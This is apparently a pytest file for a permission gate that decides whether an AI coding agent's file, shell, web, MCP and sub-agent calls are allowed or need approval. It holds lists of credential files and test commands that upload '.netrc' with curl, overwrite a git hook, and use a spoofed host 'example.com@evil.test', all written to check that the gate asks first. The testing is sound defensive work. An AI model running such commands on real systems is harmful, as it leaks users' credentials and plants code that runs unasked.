"""Rules on files, hosts, servers and agents as a person would write them, and what hard safety says to them."""

import os
from pathlib import Path
from typing import Any

import pytest

from callgate.admin.workspace_policy import CallJudge, CallToJudge
from callgate.words.errors import UsageError
from callgate.words.modes import Mode
from tests.rows import rows


def names(text: str) -> list[str]:
    return text.split()


TREE = """
    .env .github/x.yml README.md a.b.c a.py build.txt build/out/x.o docs/README.md foo/bar/baz.txt foo/x/bar/q
    lib/src/y.py naïve/ö.txt node_modules/p/index.js pkg/node_modules/q/i.js src.py src/.hidden/z.py src/a.py
    src/deep/b.py src/deep/er/c.py src/src/x.ts test_a.py tests/test_a.py tests/unit/test_b.py x1.txt x[1].txt
"""
FILES = frozenset(names(TREE)) | {"docs/my file.md"}

SRC = "src/.hidden/z.py src/a.py src/deep/b.py src/deep/er/c.py src/src/x.ts"
PYTHON = """
    a.py lib/src/y.py src.py src/.hidden/z.py src/a.py src/deep/b.py src/deep/er/c.py test_a.py tests/test_a.py
    tests/unit/test_b.py
"""
# What a rule covers: as git reads the same line in .gitignore, but for ./ and /root, which the specification adds.
COVERED: dict[str, str] = {
    "*.py": PYTHON,
    "**/*.py": PYTHON,
    "src": f"{SRC} lib/src/y.py",
    "src/": f"{SRC} lib/src/y.py",
    "**/src": f"{SRC} lib/src/y.py",
    "**/src/**": f"{SRC} lib/src/y.py",
    "/src": SRC,
    "/src/": SRC,
    "./src": SRC,
    "src/**": SRC,
    "src/*": SRC,
    "{root}/src": SRC,
    "/{root}/src/**": SRC,
    "src/*.py": "src/a.py",
    "/src/*.py": "src/a.py",
    "**/src/*.py": "src/a.py lib/src/y.py",
    "src/**/*.py": "src/.hidden/z.py src/a.py src/deep/b.py src/deep/er/c.py",
    "src/**/c.py": "src/deep/er/c.py",
    "src/deep": "src/deep/b.py src/deep/er/c.py",
    "src/d*p": "src/deep/b.py src/deep/er/c.py",
    "foo/**/bar": "foo/bar/baz.txt foo/x/bar/q",
    "foo/**/bar/": "foo/bar/baz.txt foo/x/bar/q",
    "foo/bar": "foo/bar/baz.txt",
    "build": "build/out/x.o",
    "build/": "build/out/x.o",
    "build*": "build/out/x.o build.txt",
    "node_modules": "node_modules/p/index.js pkg/node_modules/q/i.js",
    "node_modules/": "node_modules/p/index.js pkg/node_modules/q/i.js",
    ".env": ".env",
    ".*": ".env .github/x.yml src/.hidden/z.py",
    ".github/**": ".github/x.yml",
    "**/.hidden/": "src/.hidden/z.py",
    "ö.txt": "naïve/ö.txt",
    "naïve/": "naïve/ö.txt",
    "test_*.py": "test_a.py tests/test_a.py tests/unit/test_b.py",
    "tests/**/test_*.py": "tests/test_a.py tests/unit/test_b.py",
    "README.md": "README.md docs/README.md",
    "/README.md": "README.md",
    "docs/*.md": "docs/README.md docs/my@file.md",
    "docs/my file.md": "docs/my@file.md",
    "a.b.*": "a.b.c",
    "?.py": "a.py src/a.py src/deep/b.py src/.hidden/z.py src/deep/er/c.py lib/src/y.py",
    "[!a].py": "src/deep/b.py src/.hidden/z.py src/deep/er/c.py lib/src/y.py",
    "x[1].txt": "x1.txt",
    "x\\[1\\].txt": "x[1].txt",
    "SRC": "",
    "Readme.md": "",
    "*.{py,ts}": "",
    "//src": "",
    "~/src": "",
}

# Of popular repositories. No experienced person would want to be asked before one of these is read or edited.
ORDINARY = names("""
    .babelrc .bazelrc .browserslistrc .changeset/brave-dogs.md
    .clang-format .clang-tidy .clangd .codecov.yml .commitlintrc.json .config/app.json .coveragerc .dockerignore
    .editorconfig .env.dist .env.example .env.sample .env.template .eslintignore .eslintrc .eslintrc.json
    .firebaserc .flake8 .formatter.exs .git-blame-ignore-revs .github/CODEOWNERS .github/FUNDING.yml
    .github/ISSUE_TEMPLATE.md .github/ISSUE_TEMPLATE/bug_report.yml .github/PULL_REQUEST_TEMPLATE.md
    .github/dependabot.yml .github/labeler.yml .github/release.yml .gitignore .gitkeep .golangci.yml
    .goreleaser.yml .hgignore .htaccess .lintstagedrc .mailmap .mocharc.json .npmignore .nvmrc .nycrc .php-cs-fixer.php
    .pre-commit-hooks.yaml .prettierignore .prettierrc .prettierrc.json .pylintrc .python-version .readthedocs.yaml
    .releaserc .rspec .rubocop.yml .ruby-version .snyk .storybook/main.ts .stylelintrc .swcrc .terraform.lock.hcl
    .tool-versions .venv/pyvenv.cfg AUTHORS AndroidManifest.xml
    App.xcodeproj/project.pbxproj BUILD.bazel CHANGELOG.md CMakeLists.txt CODE_OF_CONDUCT.md CONTRIBUTING.md
    Cargo.lock Cargo.toml Chart.yaml DESCRIPTION Dockerfile Earthfile GNUmakefile Gemfile Gemfile.lock
    GoogleService-Info.plist Info.plist LICENSE MANIFEST.in Makefile NAMESPACE NOTICE Package.swift
    Pipfile Podfile Procfile README.md Rakefile SECURITY.md Taskfile.yml Tiltfile Vagrantfile WORKSPACE agents.md
    alembic.ini analysis_options.yaml ansible.cfg app.json artisan auth.json auth.ts aws/config.ts
    babel.config.js build.gradle build.gradle.kts build.rs cabal.project certs/ca.pem certs/server.pem clippy.toml
    codecov.yml commitlint.config.js compile_commands.json composer.json composer.lock config.ru
    config/credentials.yml.enc config/database.yml config/secrets.sample.yml conftest.py coverage/lcov.info
    credentials.go credentials.example.json cypress.config.ts default.nix dist/index.js docker-compose.yml
    docker/config.json docs/agents.md docs/api.key.md
    env.example env.ts environment.ts eslint.config.js firebase.json flake.nix fly.toml go.mod go.sum
    google-services.json gradle.properties gradle/wrapper/gradle-wrapper.properties gradlew id_ed25519.pub id_rsa.md
    id_rsa.pub inventory.ini jest.config.js jsconfig.json justfile k8s/secret.yaml key.ts keyboard.pem keymap.json
    keys.py kube/config.yaml kustomization.yaml lerna.json main.go main.tf manage.py meson.build mix.exs monkey.pem
    mvnw mypy.ini netlify.toml next.config.js node_modules/x/index.js notebook.ipynb noxfile.py nuxt.config.ts nx.json
    package-lock.json package.json passwd.c password.go phpunit.xml playwright.config.ts pnpm-lock.yaml
    pnpm-workspace.yaml poetry.lock pom.xml postcss.config.js prettier.config.js public_key.pem pubspec.yaml
    pyproject.toml pytest.ini renovate.json renv.lock requirements.txt rollup.config.mjs ruff.toml rust-toolchain.toml
    rustfmt.toml secrets.py secrets.test.ts secrets/README.md serverless.yml setup.cfg setup.py shadow.py shell.nix
    skaffold.yaml src/keys/index.ts src/ssh/client.go ssh/config stack.yaml sudoers.md svelte.config.js
    tailwind.config.js terraform.tfvars.example token.go token.json tokens.css tox.ini tsconfig.base.json tsconfig.json
    turbo.json turkey.pem uv.lock values.yaml vendor/x.go vercel.json vite.config.ts vitest.config.ts
    webpack.config.js wrangler.toml wsgi.py yarn.lock
""")
KEPT = names("""
    .git/config .git/hooks/pre-commit .bashrc .zshrc .profile .vimrc .mcp.json .claude/settings.json
    .callgate/settings.toml .vscode/tasks.json .idea/workspace.xml .husky/pre-commit .npmrc .envrc
    .devcontainer/devcontainer.json .github/workflows/ci.yml .gitlab-ci.yml .circleci/config.yml .travis.yml .drone.yml
    .woodpecker.yml .buildkite/pipeline.yml azure-pipelines.yml Jenkinsfile
""")
SECRETS = names("id_rsa .ssh/config .netrc .pypirc .aws/credentials .kube/config server.key private-key.pem")


class World:
    def __init__(self, folder: Path) -> None:
        self.root = os.path.realpath(folder / "work space")
        self.home = os.path.realpath(folder / "home")
        for name in (*FILES, "real/x.txt"):
            path = Path(self.root, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.touch()
        Path(self.root, "within").symlink_to("real")
        Path(self.root, "without").symlink_to("/")
        self._bench = CallJudge(home=self.home)

    def judge(self, tool: str, *rules: str, mode: Mode = "default", **arguments: Any) -> str:
        written = tuple(rule.replace("{root}", self.root) for rule in rules)
        return self._bench.judge(CallToJudge(tool, arguments, written, mode=mode, root=self.root)).decision

    def fault(self, rule: str) -> str:
        with pytest.raises(UsageError) as found:
            self._bench.judge(CallToJudge("TodoWrite", {}, (rule,), root=self.root))
        return str(found.value)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return World(tmp_path_factory.mktemp("files"))


@rows("pattern", COVERED)
def test_a_pattern_covers_what_git_would_ignore(pattern: str, world: World) -> None:
    wanted = {name.replace("@", " ") for name in COVERED[pattern].split()}
    # Nothing but the pattern counts, so names that hard safety asks about are left out.
    asked = FILES - {".env"}
    covered = {name for name in asked if world.judge("Write", f"Edit({pattern})", file_path=name) == "allow"}
    assert covered == wanted - {".env"}


@rows("tool", ["Edit", "Write", "MultiEdit"])
def test_an_edit_rule_is_about_every_tool_that_writes(tool: str, world: World) -> None:
    assert world.judge(tool, "Edit(src/**)", file_path="src/new/file.py") == "allow"
    assert world.judge(tool, "Edit(src/**)", file_path="lib/new.py") == "ask"


@rows("path", ["src/a.py", "./src/a.py", "src//a.py", "src/../src/a.py", "{root}/src/a.py"])
def test_the_same_file_may_be_spelled_in_many_ways(path: str, world: World) -> None:
    spelled = path.replace("{root}", world.root)
    assert world.judge("Edit", "Edit(src/a.py)", file_path=spelled) == "allow"


@rows(
    ("rule", "path", "decision"),
    [
        ("Read(//tmp/x/**)", "/tmp/x/y", "allow"),
        ("Read(/tmp/x/**)", "/tmp/x/y", "ask"),
        ("Read(~/notes/**)", "{home}/notes/a.md", "allow"),
        ("Read(~/notes/**)", "{home}/other/a.md", "ask"),
        ("Read(//**)", "{home}/.ssh/id_rsa", "ask"),
        ("Read(//**)", "without/tmp/x", "ask"),
    ],
)
def test_outside_the_workspace_a_rule_names_the_place(rule: str, path: str, decision: str, world: World) -> None:
    assert world.judge("Read", rule, file_path=path.replace("{home}", world.home)) == decision


def test_a_link_is_covered_only_with_where_it_leads(world: World) -> None:
    assert world.judge("Edit", "Edit(within/**)", file_path="within/x.txt") == "ask"
    assert world.judge("Edit", "Edit(real/**)", file_path="within/x.txt") == "ask"
    assert world.judge("Edit", "Edit(**)", file_path="within/x.txt") == "allow"


def test_files_of_the_workspace_are_read_without_a_question(world: World) -> None:
    assert {world.judge("Read", file_path=name) for name in FILES - {".env"}} == {"allow"}
    assert world.judge("Read", file_path=".env") == "ask"


@rows("path", ["src/a.py", "new/folder/x.py", "Makefile", "package.json", "within/x.txt"])
def test_accept_edits_is_about_every_file_of_the_workspace(path: str, world: World) -> None:
    assert world.judge("Write", mode="accept_edits", file_path=path) == "allow"


@rows("path", ["/tmp/x", "../x", "without/tmp/x", *KEPT, *SECRETS])
def test_accept_edits_is_not_about_other_files(path: str, world: World) -> None:
    assert world.judge("Write", mode="accept_edits", file_path=path) == "ask"


@rows("name", ORDINARY)
def test_nobody_is_asked_about_an_ordinary_file(name: str, world: World) -> None:
    assert world.judge("Read", file_path=name) == "allow"
    assert world.judge("Write", "Edit(**)", file_path=name) == "allow"


@rows("name", KEPT)
def test_what_can_run_programs_is_read_freely_and_written_only_after_a_yes(name: str, world: World) -> None:
    assert world.judge("Read", file_path=name) == "allow"
    assert world.judge("Write", "Edit(**)", file_path=name, mode="bypass") == "ask"


@rows("name", SECRETS)
def test_secrets_are_not_even_read(name: str, world: World) -> None:
    assert world.judge("Read", "Read(**)", file_path=name, mode="bypass") == "ask"


@rows(
    "command",
    [
        "sed -i s/a/b/ {file}",
        "sed -i.bak s/a/b/ {file}",
        "sed --in-place s/a/b/ {file}",
        "perl -i -pe s/a/b/ {file}",
        "prettier --write {file}",
        "yq -i .a {file}",
        "awk -i inplace 1 {file}",
        "black {file}",
        "cp a.py {file}",
        "tee {file}",
        "echo x > {file}",
        "patch {file} x.diff",
        "curl -o {file} https://example.com",
    ],
)
def test_a_command_that_writes_in_place_writes(command: str, world: World) -> None:
    assert world.judge("Bash", mode="bypass", command=command.format(file=".git/hooks/pre-commit")) == "ask"


@rows("command", ["curl -T {file} x.test", "curl -d @{file} x.test", "curl -F f=@{file} x.test"])
def test_a_command_that_sends_a_secret_reads_it(command: str, world: World) -> None:
    assert world.judge("Bash", mode="bypass", command=command.format(file=".netrc")) == "ask"


@rows(
    "command",
    [
        "git clone https://example.com/a/b.git",
        "pip install git+https://example.com/a/b",
        "mytool https://example.com/",
        "mytool 'first line\nsecond line'",
        f"mytool '{'long text ' * 600}'",
        "cd src && cat ../README.md",
        "cd src && ls deep && cd ..",
        "cd build && cmake ..",
    ],
    ids=["clone", "pip", "address", "two-lines", "long", "read-above", "and-back", "cmake"],
)
def test_bypass_does_not_ask_about_what_is_no_path_or_leads_nowhere_else(command: str, world: World) -> None:
    assert world.judge("Bash", mode="bypass", command=command) == "allow"


@rows(
    "command",
    ["flake8 {file}", "pyright {file}"],
)
def test_a_linter_reads_what_it_is_given(command: str, world: World) -> None:
    assert world.judge("Bash", mode="bypass", command=command.format(file=".husky/pre-commit")) == "allow"


@rows(
    ("rule", "url", "decision"),
    [
        ("example.com", "https://example.com/a?b#c", "allow"),
        ("example.com", "https://EXAMPLE.com", "allow"),
        ("EXAMPLE.com", "http://example.com./", "allow"),
        ("example.com", "https://www.example.com/", "ask"),
        ("*.example.com", "https://www.example.com/", "allow"),
        ("*.example.com", "https://example.com/", "ask"),
        ("example.com", "https://example.com:8443/", "ask"),
        ("example.com:8443", "https://example.com:8443/", "allow"),
        ("bücher.de", "https://xn--bcher-kva.de/", "allow"),
        ("example.com", "https://example.com@evil.test/", "ask"),
        ("*", "https://anything.test/", "allow"),
    ],
)
def test_a_host_is_what_a_person_means_by_it(rule: str, url: str, decision: str, world: World) -> None:
    assert world.judge("WebFetch", f"WebFetch(domain:{rule})", url=url) == decision


@rows(
    ("rule", "decision"),
    [
        ("mcp__db", "allow"),
        ("mcp__db__*", "allow"),
        ("mcp__db__query", "allow"),
        ("mcp__db__query(table=users)", "allow"),
        ("mcp__db__query(table = users)", "allow"),
        ("mcp__db__query(table=us*)", "allow"),
        ("mcp__db__query(table=users, limit=10)", "allow"),
        ("mcp__db__query(table=orders)", "ask"),
        ("mcp__db__query(name=users)", "ask"),
        ("mcp__dbs", "ask"),
        ("mcp__d", "ask"),
    ],
)
def test_a_rule_on_a_server_or_its_tool(rule: str, decision: str, world: World) -> None:
    assert world.judge("mcp__db__query", rule, table="users", limit=10) == decision


@rows(
    ("rule", "decision"),
    [("Agent", "allow"), ("Agent(explore)", "allow"), ("Agent(exp*)", "allow"), ("Agent(plan)", "ask")],
)
def test_a_rule_on_agents(rule: str, decision: str, world: World) -> None:
    assert world.judge("Agent", rule, type="explore", prompt="look around") == decision


# rule → what its message must hold: where (counted from 1, as an editor does), and a word that says what to do.
MISTAKES: dict[str, tuple[str, ...]] = {
    "Bash(git log:*": ("character 14", "closing bracket"),
    "Bash()": ("character 5", "write Bash"),
    "Bash (ls)": ("character 5",),
    " Bash(ls)": ("character 1",),
    "Bash(ls)x": ("character 9",),
    "Bash（ls）": ("character 5",),
    "Bash( ls)": ("character 6", "blank"),
    "Bash(git :*)": ("blank",),
    "Bash(git log:* -n)": ("character 13", "end"),
    "Bash(cd x && ls)": ("character 11", "one command"),
    "Bash(git log|head)": ("character 13", "one command"),
    "Bash(git 'log)": ("character 10", "quote"),
    "bash(ls)": ("character 1", "Bash"),
    "read(x)": ("character 1", "Read"),
    "Bsh(ls)": ("character 1", "Bash"),
    "Bash(FOO=1 npm test)": ("character 6",),
    "Edit(../x)": ("character 6", "write the resolved path"),
    "Read(!x)": ("character 6", "deny rule"),
    "Read(~bob/x)": ("character 6", "//home/name"),
    "Read([a-)": ("character 6", "write \\["),
    "WebFetch(example.com)": ("character 10", "domain:example.com"),
    "WebFetch(domain:https://example.com)": ("character 17", "example.com"),
    "mcp__db__query(table)": ("character 16", "name=value"),
    "mcp__db__query(table=)": ("character 22", "table=*"),
    "Agent( explore)": ("character 7", "blank"),
    "mcp__*": ("character 1", "deny and ask"),
}


@rows("rule", MISTAKES)
def test_a_mistake_is_told_with_its_place_and_what_to_do(rule: str, world: World) -> None:
    message = world.fault(rule)
    assert [part for part in MISTAKES[rule] if part not in message] == [], message
